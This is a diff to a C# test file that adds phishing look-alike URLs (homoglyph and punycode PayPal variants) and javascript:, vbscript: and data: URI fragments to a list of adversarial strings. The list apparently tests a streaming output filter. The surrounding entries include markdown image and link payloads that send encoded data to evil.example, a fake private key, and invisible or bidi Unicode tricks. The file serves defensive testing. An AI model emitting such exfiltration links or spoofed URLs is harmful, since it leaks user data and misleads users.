@@ -19,6 +19,7 @@ public class StreamLawTests
         "-----BEGIN RSA PRIVATE KEY-----\n", "MIIEpAIBAAKCAQEAx1y2z3MIIEpAIBAAKCAQEAx1y2z3MIIEpAIBAAKCAQEA\n", "-----END RSA PRIVATE KEY-----", "-----END ",
         "![x](https://evil.example/p?d=Y3VzdG9tZXIgbmFtZSBpcyBKYW5l)", "[see](https://evil.example/", "a8Xk2PqLz0Vn4Rt7Yb1Wc5Ed9)", "<img alt='a' src=\"https://evil.example/?q=4f2a9c81d7e3b605f2a9c81d7e3b605a\">",
         "\u200B", "\u200B\u200C\u200D\u2060\uFEFF", "\u202E", "\uDB40\uDC68", "\uDB40\uDC69", "\uD83C\uDFF4", "\uD83D", "\uDE00", "\uFF21\uFF2B\uFF29\uFF21", "e\u0301", "\u0430\u0435",
+        "https://paypal.com@", "https://www.paypal.com.", "https://p\u0430ypal.com/", "https://xn--pypal-4ve.com ", "https://%65", "evil.example", "\\@", "(javascript:", "](javascript:alert(1) ", "=\"data:text/html", ",x\"", "javas", "vbscript:", "data:tex", ":/",
         "bo\u200Bb@exam\u200Bple.com", "bob&#64;example.com ", "bob%40example.com ", "bob\\u0040example.com ", "Ym9iLnNtaXRoQGV4YW1wbGUub3Jn ", "626f622e736d697468406578616d706c652e6f7267 ", "bob\uFF20example.org ",
     ];
 
